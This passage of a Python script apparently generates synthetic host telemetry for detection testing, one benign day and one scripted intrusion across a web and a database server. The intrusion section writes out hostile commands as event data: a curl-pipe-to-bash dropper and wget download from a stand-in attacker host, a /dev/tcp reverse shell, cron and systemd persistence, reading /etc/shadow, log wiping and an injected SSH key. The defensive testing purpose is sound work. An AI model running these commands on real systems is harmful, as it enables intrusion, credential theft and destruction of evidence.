                         cwd=f"{jd}/build")
            gob = f"/tmp/go-build{2349871 + job}"
            c.execve(ts(day, h, 3, 0, 0), sh + 20, sh, "/usr/lib/go-1.22/bin/go",
                     ["go", "test", "./..."], uid=u, cwd=jd)
            c.execve(ts(day, h, 3, 20, 0), sh + 21, sh + 20, f"{gob}/b001/shop.test",
                     [f"{gob}/b001/shop.test", "-test.paniconexit0", "-test.timeout=10m0s"], uid=u,
                     cwd=jd, comm="shop.test")
            c.connect(ts(day, h, 3, 21, 0), sh + 21, sh + 20, f"{gob}/b001/shop.test",
                      f"{gob}/b001/shop.test -test.paniconexit0", "10.0.7.5", 8080, uid=u)
        c.execve(ts(day, h, 4, 0, 0), sh + 30, sh, "/usr/bin/rm", ["rm", "-rf", jd], uid=u, cwd="/tmp")
        cj.entry(jts(day, h, 4, 1, 0), "gitlab-runner", 700, "/usr/bin/gitlab-runner", None,
                 f"Job succeeded job={5520 + job}", uid="uid=0")
        cpid += 100
    # ci1 housekeeping: logrotate, and the runner's admin logging on.
    c.execve(ts(day, 6, 25, 1, 300), 69000, 68999, "/usr/sbin/logrotate",
             ["/usr/sbin/logrotate", "/etc/logrotate.conf"], auid="root", ses="77")
    c.syscall(ts(day, 6, 25, 2, 0), "rename", "82", 69000, 68999, "/usr/sbin/logrotate",
              "/usr/sbin/logrotate /etc/logrotate.conf", "/var/log/gitlab-runner.log", "DELETE",
              auid="root", ses="77", key="logs")
    cj.accepted(jts(day, 11, 0, 0, 0), 69100, "alice", "10.0.5.10", 51900)

    # --- db1 (Defender for Endpoint): the seed's kinds, cron logons, ansible, postgres backup.
    dpid = 415000
    for h in range(0, 24, 2):
        db1_sysstat(d, day, h, 0, dpid)
        d.logon(dts(day, h, 0, 1, 943018), "LogonSuccess", "root", logon_type="Local")
        dpid += 5
    for h in (0, 6, 12, 18):
        db1_edr_round(d, day, h, 46, dpid)
        dpid += 100
    for h in range(0, 24, 3):
        db1_indexer(d, day, h, 40, 6)
    # The DBA logs on from the admin network; the automation account runs ansible.
    d.logon(dts(day, 8, 5, 0, 0), "LogonSuccess", "dba", "10.0.5.20", 50122)
    d.logon(dts(day, 13, 5, 0, 0), "LogonSuccess", "dba", "10.0.5.21", 50144)
    d.logon(dts(day, 1, 0, 0, 0), "LogonSuccess", "deploy", "10.0.5.30", 50300)
    d.logon(dts(day, 23, 0, 0, 0), "LogonSuccess", "deploy", "10.0.5.30", 50360)
    for r, hour in enumerate((7, 19)):
        d.logon(dts(day, hour, 0, 0, 0), "LogonSuccess", "automation", "10.0.5.30", 50200 + r)
        tmp = f"/home/automation/.ansible/tmp/ansible-tmp-17635{r}0000.12-4411-1234"
        sh = {"pid": 500000 + r * 100, "ppid": 499990, "name": "bash", "exe": "/usr/bin/bash",
              "command_line": f"/bin/sh -c '/usr/bin/python3 {tmp}/AnsiballZ_setup.py && sleep 0'",
              "user": "automation"}
        setup = {"pid": 500001 + r * 100, "ppid": sh["pid"], "name": "python3", "exe": "/usr/bin/python3.11",
                 "command_line": f"/usr/bin/python3 {tmp}/AnsiballZ_setup.py"}
        d.process(dts(day, hour, 0, 2, 0), setup, sh, grandparent="sshd", user="automation")
        setup["user"] = "automation"
        for k, argv in enumerate(["/usr/bin/lsblk --list --noheadings --paths --output NAME,UUID",
                                  "/usr/sbin/dmidecode -s system-manufacturer",
                                  "/usr/bin/lsb_release -a", "/usr/bin/hostname -f",
                                  "/usr/bin/uname -a", "/usr/bin/ip -br a", "/usr/bin/id -u"]):
            d.process(dts(day, hour, 0, 3, k * 1000), {"pid": 500010 + r * 100 + k,
                      "ppid": setup["pid"], "name": argv.split()[0].split("/")[-1],
                      "exe": argv.split()[0], "command_line": argv}, setup, grandparent="bash",
                      user="automation")
        copy = {"pid": 500050 + r * 100, "ppid": sh["pid"], "name": "python3", "exe": "/usr/bin/python3.11",
                "command_line": f"/usr/bin/python3 {tmp}/AnsiballZ_copy.py", "user": "root"}
        d.file(dts(day, hour, 1, 0, 0), "FileModified", "/etc/cron.d/pg-backup", copy, "bash",
               sh["pid"])
    for h in (1, 13):
        bk = {"pid": 510000 + h, "ppid": 611, "name": "dash", "exe": "/usr/bin/dash",
              "command_line": "/bin/sh -c /usr/local/bin/pg-backup.sh", "user": "postgres"}
        d.process(dts(day, h, 30, 0, 0), {"pid": 510100 + h, "ppid": bk["pid"], "name": "pg_dump",
                  "exe": "/usr/lib/postgresql/15/bin/pg_dump",
                  "command_line": "/usr/lib/postgresql/15/bin/pg_dump -Fc shop -f /var/backups/pg/shop.dump"},
                  bk, grandparent="cron", user="postgres")
    d.connection(dts(day, 3, 0, 5, 0), {"pid": 1187, "name": "wdavdaemon",
                 "exe": "/opt/microsoft/mdatp/sbin/wdavdaemon",
                 "command_line": "/opt/microsoft/mdatp/sbin/wdavdaemon edr 12 11"}, "systemd", 1,
                 "20.189.173.8", 443, 40112)
    return out


def intrusion():
    out = []
    w = Audit("web1", out, 80000)
    wj = Journal("web1", out)
    d = Defender(DB1, out, 90000)
    day = 20
    # --- background before the intrusion.
    w.execve(ts(19, 23, 0, 0, 0), 880, 1, "/usr/sbin/php-fpm8.2",
             ["php-fpm:", "pool", "www"], uid="www-data", comm="php-fpm8.2")
    pid = 29000
    for h, m in ((1, 50), (2, 0), (2, 10), (2, 20), (2, 30)):
        web1_sysstat(w, day, h, m, pid)
        pid += 7
    db1_sysstat(d, day, 2, 0, 416000)
    db1_edr_round(d, day, 2, 46, 416100)
    db1_indexer(d, day, 2, 40, 6)
    d.logon(dts(day, 1, 0, 0, 0), "LogonSuccess", "deploy", "10.0.5.30", 50300)
    d.logon(dts(day, 2, 0, 1, 943018), "LogonSuccess", "root", logon_type="Local")

    # --- web1 1: the web application runs a dropper (www-data, under php-fpm).
    w.execve(ts(day, 2, 10, 3, 0), 30101, 880, "/usr/bin/dash",
             ["sh", "-c", f"curl -fsSL http://{ATTACKER}/x.sh | bash"], uid="www-data",
             cwd="/var/www/shop", comm="sh")
    w.execve(ts(day, 2, 10, 3, 50), 30102, 30101, "/usr/bin/curl",
             ["curl", "-fsSL", f"http://{ATTACKER}/x.sh"], uid="www-data", cwd="/var/www/shop")
    w.connect(ts(day, 2, 10, 3, 80), 30102, 30101, "/usr/bin/curl", f"curl -fsSL http://{ATTACKER}/x.sh",
              ATTACKER, 80, uid="www-data")
    w.execve(ts(day, 2, 10, 3, 60), 30103, 30101, "/usr/bin/bash", ["bash"], uid="www-data",
             cwd="/var/www/shop")
    w.execve(ts(day, 2, 10, 4, 0), 30104, 30103, "/usr/bin/mkdir", ["mkdir", "-p", "/tmp/.x"],
             uid="www-data", cwd="/var/www/shop")
    w.execve(ts(day, 2, 10, 5, 0), 30105, 30103, "/usr/bin/curl",
             ["curl", "-fsSL", "-o", "/tmp/.x/syncd", f"http://{ATTACKER}/syncd"], uid="www-data",
             cwd="/var/www/shop")
    w.execve(ts(day, 2, 10, 6, 0), 30106, 30103, "/usr/bin/chmod", ["chmod", "+x", "/tmp/.x/syncd"],
             uid="www-data", cwd="/var/www/shop")
    # --- web1 2: reverse shell.
    w.execve(ts(day, 2, 11, 2, 0), 30110, 30103, "/usr/bin/bash",
             ["bash", "-c", f"bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1"], uid="www-data",
             cwd="/var/www/shop")
    w.connect(ts(day, 2, 11, 2, 20), 30110, 30103, "/usr/bin/bash",
              f"bash -c bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1", ATTACKER, 4444, uid="www-data")
    # ...and the intruder looks around through it.
    for i, argv in enumerate([["id"], ["uname", "-a"], ["cat", "/etc/passwd"], ["ps", "aux"],
                              ["ss", "-tlnp"], ["ip", "a"], ["sudo", "-l"]]):
        w.execve(ts(day, 2, 11, 30 + i * 4, 0), 30120 + i, 30110, "/usr/bin/" + argv[0], argv,
                 uid="www-data", cwd="/var/www/shop")
    # privilege escalation with a local exploit dropped in /tmp/.x, then a root shell.
    w.execve(ts(day, 2, 13, 10, 0), 30140, 30110, "/tmp/.x/pk", ["/tmp/.x/pk"], uid="www-data",
             cwd="/tmp/.x")
    w.execve(ts(day, 2, 13, 12, 0), 30141, 30140, "/usr/bin/bash", ["/bin/bash", "-i"], uid="root",
             cwd="/tmp/.x")
    root_sh = 30141
    # --- web1 3: cron persistence running /tmp/.x/syncd.
    w.execve(ts(day, 2, 14, 20, 0), 30150, root_sh, "/usr/bin/bash",
             ["bash", "-c", "echo '* * * * * root /tmp/.x/syncd' > /etc/cron.d/syncd"], uid="root",
             cwd="/tmp/.x")
    w.syscall(ts(day, 2, 14, 20, 10), "openat", "257", 30150, root_sh, "/usr/bin/bash",
              "bash -c echo '* * * * * root /tmp/.x/syncd' > /etc/cron.d/syncd", "/etc/cron.d/syncd",
              "CREATE", key="cron", cwd="/tmp/.x")
    w.execve(ts(day, 2, 15, 1, 0), 30160, 612, "/usr/bin/dash", ["/bin/sh", "-c", "/tmp/.x/syncd"],
             auid="root", ses="1201", comm="sh")
    w.execve(ts(day, 2, 15, 1, 20), 30161, 30160, "/tmp/.x/syncd", ["/tmp/.x/syncd"], auid="root",
             ses="1201")
    w.connect(ts(day, 2, 15, 1, 80), 30161, 30160, "/tmp/.x/syncd", "/tmp/.x/syncd", ATTACKER, 4444,
              auid="root", ses="1201")
    # --- web1 4: credential access, then the log wipe.
    w.execve(ts(day, 2, 20, 5, 0), 30170, root_sh, "/usr/bin/cat", ["cat", "/etc/shadow"], cwd="/tmp/.x")
    w.syscall(ts(day, 2, 20, 5, 10), "openat", "257", 30170, root_sh, "/usr/bin/cat", "cat /etc/shadow",
              "/etc/shadow", key="shadow", cwd="/tmp/.x")
    w.execve(ts(day, 2, 20, 30, 0), 30171, root_sh, "/usr/bin/truncate",
             ["truncate", "-s0", "/var/log/auth.log"], cwd="/tmp/.x")
    w.syscall(ts(day, 2, 20, 30, 10), "truncate", "76", 30171, root_sh, "/usr/bin/truncate",
              "truncate -s0 /var/log/auth.log", "/var/log/auth.log", key="logs", cwd="/tmp/.x")
    w.execve(ts(day, 2, 20, 35, 0), 30172, root_sh, "/usr/bin/rm", ["rm", "-f", "/root/.bash_history"],
             cwd="/root")
    w.syscall(ts(day, 2, 20, 35, 10), "unlinkat", "263", 30172, root_sh, "/usr/bin/rm",
              "rm -f /root/.bash_history", ".bash_history", "DELETE", key="delete", cwd="/root")
    w.execve(ts(day, 2, 20, 40, 0), 30173, root_sh, "/usr/bin/bash", ["bash", "-c", "history -c"],
             cwd="/root")
    # background after: the administrator's morning.
    wj.accepted(jts(day, 8, 30, 0, 0), 31100, "alice", "10.0.5.10", 51022)
    wj.sudo(jts(day, 8, 31, 0, 0), 31200, "alice", "uid=1001", "/usr/bin/systemctl restart nginx",
            "/home/alice")
    w.execve(ts(day, 8, 31, 0, 5), 31201, 31200, "/usr/bin/systemctl", ["systemctl", "restart", "nginx"],
             auid="alice", tty="pts0", ses="52")
    wj.started(jts(day, 8, 31, 1, 0), "nginx.service", "A high performance web server and a reverse proxy server")

    # --- db1 1: password guessing from 198.51.100.7, then a logon as deploy.
    accounts = ["root", "admin", "oracle"]
    for i in range(33):
        sec = i * 8
        d.logon(dts(day, 2, 30 + sec // 60, sec % 60, 100000 + i), "LogonFailed", accounts[i % 3],
                GUESSER, 40000 + i)
    d.logon(dts(day, 2, 35, 10, 0), "LogonSuccess", "deploy", GUESSER, 40100)
    # --- db1 2: download, make executable, run.
    sshd = {"pid": 417001, "ppid": 790, "name": "sshd", "exe": "/usr/sbin/sshd",
            "command_line": "sshd: deploy@pts/0", "user": "deploy"}
    ishell = {"pid": 417010, "ppid": 417001, "name": "bash", "exe": "/usr/bin/bash",
              "command_line": "-bash", "user": "deploy"}
    d.process(dts(day, 2, 35, 12, 0), dict(ishell, user=None), sshd, grandparent="sshd", user="deploy")
    drop_cmd = (f"bash -c \"wget http://{ATTACKER}/x.sh -O /tmp/.x/syncd; chmod +x /tmp/.x/syncd; "
                "/tmp/.x/syncd\"")
    dropper = {"pid": 417020, "ppid": 417010, "name": "bash", "exe": "/usr/bin/bash",
               "command_line": drop_cmd}
    d.process(dts(day, 2, 36, 0, 0), dropper, ishell, grandparent="sshd", user="deploy")
    dropper["user"] = "deploy"
    d.process(dts(day, 2, 36, 0, 500000), {"pid": 417021, "ppid": 417020, "name": "wget",
              "exe": "/usr/bin/wget", "command_line": f"wget http://{ATTACKER}/x.sh -O /tmp/.x/syncd"},
              dropper, grandparent="bash", user="deploy")
    d.file(dts(day, 2, 36, 1, 0), "FileCreated", "/tmp/.x/syncd", {"pid": 417021, "ppid": 417020,
           "name": "wget", "exe": "/usr/bin/wget",
           "command_line": f"wget http://{ATTACKER}/x.sh -O /tmp/.x/syncd"}, "bash", 417020,
           user="deploy", sha=SYNCD_SHA)
    d.process(dts(day, 2, 36, 2, 0), {"pid": 417022, "ppid": 417020, "name": "chmod",
              "exe": "/usr/bin/chmod", "command_line": "chmod +x /tmp/.x/syncd"}, dropper,
              grandparent="bash", user="deploy")
    d.process(dts(day, 2, 36, 2, 500000), {"pid": 417023, "ppid": 417020, "name": "syncd",
              "exe": "/tmp/.x/syncd", "command_line": "/tmp/.x/syncd"}, dropper, grandparent="bash",
              user="deploy", sha=SYNCD_SHA)
    # --- db1 3: the implant calls home.
    d.connection(dts(day, 2, 36, 5, 0), {"pid": 417023, "ppid": 417020, "name": "syncd",
                 "exe": "/tmp/.x/syncd", "command_line": "/tmp/.x/syncd", "sha256": SYNCD_SHA},
                 "bash", 417020, ATTACKER, 4444, 51560, user="deploy")
    # --- db1 4: a unit for the implant, and a key for deploy.
    unit_cmd = ("bash -c \"printf '[Unit]\\nDescription=syncd\\n[Service]\\nExecStart=/tmp/.x/syncd\\n"
                "Restart=always\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/syncd.service\"")
    d.file(dts(day, 2, 37, 0, 0), "FileCreated", "/etc/systemd/system/syncd.service",
           {"pid": 417040, "ppid": 417030, "name": "bash", "exe": "/usr/bin/bash",
            "command_line": unit_cmd}, "sudo", 417030, user="root")
    key_cmd = ("bash -c \"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx7dGlyb2xvY2FsaG9zdGtleWZvcnRlc3Rz op@kali'"
               " >> /home/deploy/.ssh/authorized_keys\"")
    d.file(dts(day, 2, 37, 30, 0), "FileModified", "/home/deploy/.ssh/authorized_keys",
           {"pid": 417050, "ppid": 417010, "name": "bash", "exe": "/usr/bin/bash",
            "command_line": key_cmd}, "bash", 417010, user="deploy")
    return out


def write(name, events):
    with open(os.path.join(HERE, name), "w", encoding="utf-8") as f:
        for e in events:
            f.write(json.dumps(e, sort_keys=True, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    write("benign_day.jsonl", benign())
    write("intrusion.jsonl", intrusion())
